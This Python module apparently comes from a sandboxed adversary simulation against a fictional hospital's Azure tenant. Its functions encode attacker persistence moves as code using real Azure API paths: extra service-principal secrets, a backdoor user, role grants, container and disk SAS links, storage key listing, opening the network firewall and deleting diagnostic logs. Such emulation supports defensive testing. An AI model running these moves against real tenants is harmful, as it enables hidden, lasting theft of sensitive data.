"""What a thief does on Azure to stay in: credentials, principals, roles, links, keys, networks, logs. And the whole repertoire.

Who destroys is not here: it hurts clinicians by itself.
"""

import secrets
from base64 import b64decode
from collections.abc import Callable, Iterable
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Final
from urllib.parse import urlencode
from uuid import uuid4

from shared.sandbox.azure import blob_signatures as signatures
from shared.sandbox.azure import blob_xml as xml
from shared.sandbox.azure import clinic_names as names
from shared.sandbox.azure import hospital_names as hospital
from shared.sandbox.azure.thief_hands import Bearer, Hand, Key, Link, Proof
from shared.sandbox.azure.wire import Request

if TYPE_CHECKING:
    from shared.sandbox.azure.thief import Thief

type Move = Callable[["Thief", Hand], Iterable[Hand]]
"""What a move mints. Raises Problem where it is refused."""

READER: Final = "/providers/Microsoft.Authorization/roleDefinitions/2a2b9908-6ea1-4ae2-8e65-a410df84e7d1"
"""Storage Blob Data Reader."""

SIGNED: Final = "2025-05-05"
_DAY = timedelta(days=1)


def new_secret(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """Another secret for the stolen program, which outlives the removal of the first."""
    made = thief.graph(hand, "POST", f"servicePrincipals/{names.EXPORT_ID}/addPassword", {"passwordCredential": {}})
    shown = thief.graph(hand, "GET", f"servicePrincipals/{names.EXPORT_ID}?$select=appId")
    form = {"grant_type": "client_credentials", "client_id": shown["appId"], "client_secret": made["secretText"]}
    yield Bearer(thief.name("secret"), names.EXPORT_ID, Proof("app-credential", form))


def new_user(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """A user of the thief's own."""
    name, password = thief.name("svc"), f"{secrets.token_urlsafe(12)}-EXAMPLE"
    upn = f"{name}@st-brendan.example"
    asked = {"accountEnabled": True, "displayName": name, "userPrincipalName": upn, "passwordProfile": {"password": password}}
    made = str(thief.graph(hand, "POST", "users", asked)["id"])
    thief.made.append(made)
    form = {"grant_type": "password", "client_id": "browser", "username": upn, "password": password}
    yield Bearer(name, made, Proof("sign-in", form))


def grant_role(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """Reading for whoever is newest among the thief's own, at the account."""
    who = next(each for each in thief.held if isinstance(each, Bearer))
    place = f"{names.ACCOUNT_ID}/providers/Microsoft.Authorization/roleAssignments/{uuid4()}"
    kind = "ServicePrincipal" if who.program else "User"
    asked = {"roleDefinitionId": READER, "principalId": who.id, "principalType": kind}
    thief.arm(hand, "PUT", place, {"properties": asked}, "2022-04-01")
    return ()


def sign_link(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """A link to a whole container, in the name of the stolen program."""
    hand = next(each for each in thief.held if each.name == names.EXPORT) if hand.name != names.EXPORT else hand
    until = datetime.now(UTC) + _DAY
    end = until.strftime("%Y-%m-%dT%H:%M:%SZ")
    start = datetime.fromtimestamp(thief.cloud.clock.now(), UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    asked = f"<KeyInfo><Start>{start}</Start><Expiry>{end}</Expiry></KeyInfo>".encode()
    answer = thief.blob(hand, "POST", f"{names.BLOB_URL}/?restype=service&comp=userdelegationkey", asked)
    key = {node.tag: node.text or "" for node in xml.read(answer.body)}
    fields = ("SignedOid", "SignedTid", "SignedStart", "SignedExpiry", "SignedService", "SignedVersion")
    container = thief.random.choice(names.TENANTS)
    query = {"sv": SIGNED, "sr": "c", "sp": "rl", "se": end}
    query |= dict(zip(signatures.DELEGATION, (key[field] for field in fields), strict=True))
    text = signatures.delegation_text(query, f"/blob/{names.ACCOUNT}/{container}", Request("GET", names.BLOB_URL))
    signed = signatures.mac(b64decode(key["Value"]), text)
    yield Link(thief.name("link"), key["SignedOid"], container, urlencode({**query, "sig": signed}))


def list_keys(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """The keys of the account, as they are now."""
    shown = thief.arm(hand, "POST", f"{names.ACCOUNT_ID}/listKeys")
    known = {each.value for each in thief.held if isinstance(each, Key)}
    for key in shown["keys"]:
        if key["value"] not in known:
            yield Key(thief.name(key["keyName"]), names.ACCOUNT, key["keyName"], key["value"])


def take_disk(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """A link to a whole disk, which opens for whoever has it."""
    asked = {"access": "Read", "durationInSeconds": int(_DAY.total_seconds())}
    given = thief.arm(hand, "POST", f"{hospital.DISK_ID}/beginGetAccess", asked, "2024-03-02")
    thief.links.append(str(given["accessSAS"]))
    return ()


def open_network(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """The account for everybody, wherever they are."""
    rules = {"defaultAction": "Allow", "bypass": "AzureServices", "ipRules": [], "virtualNetworkRules": []}
    thief.arm(hand, "PATCH", names.ACCOUNT_ID, {"properties": {"networkAcls": rules, "publicNetworkAccess": "Enabled"}})
    return ()


def stop_log(thief: "Thief", hand: Hand) -> Iterable[Hand]:
    """Nobody sees any more who reads."""
    setting = f"{names.ACCOUNT_ID}/blobServices/default/providers/Microsoft.Insights/diagnosticSettings/night"
    thief.arm(hand, "DELETE", setting, version="2021-05-01-preview")
    return ()


MOVES: Final[tuple[Move, ...]] = (new_secret, new_user, grant_role, sign_link, list_keys, take_disk, open_network, stop_log)
"""What a thief does who wants to go on reading."""
